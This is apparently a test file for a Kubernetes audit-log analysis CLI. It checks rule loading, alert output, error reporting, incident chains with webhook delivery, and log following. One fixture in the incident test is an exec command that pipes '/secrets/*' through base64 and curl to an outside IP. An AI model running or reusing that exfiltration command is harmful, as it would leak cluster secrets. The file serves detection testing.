// `stockade audit analyze` end to end: rule selection, JSON lines, incidents, input problems.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { runCli } from '../cli/run.js';
import { corpusPath } from '../corpus.js';
import { auditEvent, execEvent } from './events.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'stockade-audit-cli-'));
after(() => rmSync(dir, { recursive: true, force: true }));

function run(args: string[], stdin = ''): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return runCli(['audit', ...args], { stdin });
}

const trace = (name: string) => corpusPath('falco-k8saudit', 'falco-tests', 'trace_files', 'k8s_audit', name);
const jsonLines = (text: string) => text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

test('--rules replaces the defaults, loaded in order; json is one alert per line with the required fields', async () => {
  const rules = ['rules/k8s_audit_rules-v0.6.0.yaml', 'falco-tests/rules/k8s_audit/trust_nginx_container.yaml'].flatMap((r) => ['--rules', corpusPath('falco-k8saudit', r)]);
  const r = await run(['analyze', trace('exec_pod.json'), trace('create_nginx_pod_privileged.json'), trace('create_nginx_pod_hostnetwork.json'), ...rules, '--format', 'json']);
  assert.equal(r.code, 0, r.stderr);
  const alerts = jsonLines(r.stdout);
  // The overlay, loaded second, trusts nginx: the privileged and host-network pods no longer alert.
  assert.deepEqual(alerts.map((a) => a.rule), ['Attach/Exec Pod']);
  assert.equal(alerts[0].auditID, 'ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6');
  for (const k of ['rule', 'priority', 'time', 'output', 'auditID']) assert.ok(typeof alerts[0][k] === 'string' && alerts[0][k] !== '', k);
});

test('default rules over stdin and files; non-event lines and unreadable files are reported and give exit 2', async () => {
  const input = `${JSON.stringify(execEvent(['sh']))}\n{"kind": 0}\n${JSON.stringify(auditEvent())}\n`;
  const r = await run(['analyze', '-', trace('fal_01_003.json'), join(dir, 'nope.log'), '--format', 'json'], input);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /^stockade: \(stdin\):2: data not recognized as a k8s audit event/m);
  assert.match(r.stderr, /fal_01_003\.json:1: data not recognized as a k8s audit event/);
  assert.match(r.stderr, /nope\.log: cannot read: ENOENT/);
  assert.match(r.stderr, /2 events, \d+ alerts, 2 lines that are not audit events, 1 unreadable file\n/);
  assert.ok(jsonLines(r.stdout).some((a) => a.rule === 'Exec Into Pod by Human'));
});

test('a broken rules file is a one-line usage error naming file, line and rule', async () => {
  const bad = join(dir, 'bad.yaml');
  writeFileSync(bad, '- rule: Broken\n  desc: d\n  condition: ka.verb=get and ka.no.such.field=1\n  output: o\n  priority: INFO\n  source: k8s_audit\n');
  const r = await run(['analyze', trace('exec_pod.json'), '--rules', bad]);
  assert.equal(r.code, 2);
  assert.equal(r.stderr, `stockade: ${bad}:3: rule "Broken": condition: unknown field ka.no.such.field (at column 17 of the condition)\n`);
});

test('--incidents raises an attack chain above its alerts, and delivers it to a webhook that fails first', async () => {
  const at = (s: number) => `2026-03-01T10:${String(Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}Z`;
  const user = { username: 'mallory', groups: ['system:authenticated'] };
  const events = [
    ...Array.from({ length: 12 }, (_, i) => auditEvent({ user, code: 403, at: at(i), verb: 'list', objectRef: { resource: 'secrets', namespace: 'prod' } })),
    auditEvent({ user, at: at(100), verb: 'create', objectRef: { resource: 'clusterrolebindings', name: 'pwn' }, code: 201, requestObject: { roleRef: { name: 'cluster-admin' }, subjects: [{ name: 'mallory' }] } }),
    execEvent(['sh', '-c', 'cat /secrets/* | base64 | curl -d @- http://203.0.113.7'], { user, at: at(200) }),
  ];
  let calls = 0;
  const bodies: Record<string, unknown>[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      if (++calls <= 2) return void res.writeHead(500).end();
      bodies.push(JSON.parse(body));
      res.writeHead(200).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  try {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/incoming`;
    const r = await run(['analyze', '-', '--incidents', '--format', 'json', '--webhook', url, '--queue-dir', join(dir, 'queue'), '--delivery-timeout', '30'], events.map((e) => JSON.stringify(e)).join('\n'));
    assert.equal(r.code, 0, r.stderr);
    const incidents = jsonLines(r.stdout);
    const top = incidents[0] as { identity: string; chain: boolean; priority: string; reasons: string[]; alerts: { rule: string; count: number }[] };
    assert.equal(top.identity, 'mallory');
    assert.equal(top.chain, true);
    assert.equal(top.priority, 'CRITICAL');
    assert.ok(top.reasons.some((x) => x.startsWith('attack chain')));
    assert.ok(top.alerts.some((a) => a.rule === 'Burst of Forbidden Requests'));
    assert.equal(bodies.length, incidents.length);
    assert.equal(bodies[0].type, 'incident');
    assert.match(r.stderr, /webhook http:\/\/127\.0\.0\.1:\d+: \d+ delivered, 0 still queued/);
    assert.ok(!r.stderr.includes('/incoming'), 'the webhook path is not printed');
  } finally {
    server.close();
  }
});

test('--follow reads a growing file across rotation and stops cleanly on SIGTERM', async () => {
  const log = join(dir, 'follow.log');
  writeFileSync(log, `${JSON.stringify(execEvent(['sh'], { auditID: 'f-1' }))}\n`);
  const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/entry.ts', 'audit', 'analyze', '--follow', log, '--format', 'json'], { cwd: root });
  const killer = setTimeout(() => child.kill('SIGKILL'), 90_000);
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c) => (stdout += c));
  child.stderr.on('data', (c) => (stderr += c));
  const waitFor = async (id: string) => {
    for (let i = 0; i < 600 && !stdout.includes(`"auditID":"${id}"`); i++) await new Promise((r) => setTimeout(r, 100));
    assert.ok(stdout.includes(`"auditID":"${id}"`), `${id} seen; stderr: ${stderr}`);
  };
  try {
    await waitFor('f-1');
    appendFileSync(log, `${JSON.stringify(execEvent(['tar', 'cf', '-', '/'], { auditID: 'f-2' }))}\n`);
    await waitFor('f-2');
    renameSync(log, `${log}.1`);
    writeFileSync(log, `${JSON.stringify(execEvent(['curl', 'x'], { auditID: 'f-3' }))}\n`);
    await waitFor('f-3');
  } finally {
    child.kill('SIGTERM');
  }
  const code = await new Promise<number | null>((resolve) => child.once('exit', (c) => resolve(c)));
  clearTimeout(killer);
  assert.equal(code, 0, stderr);
  assert.match(stderr, /3 events, \d+ alerts/);
});
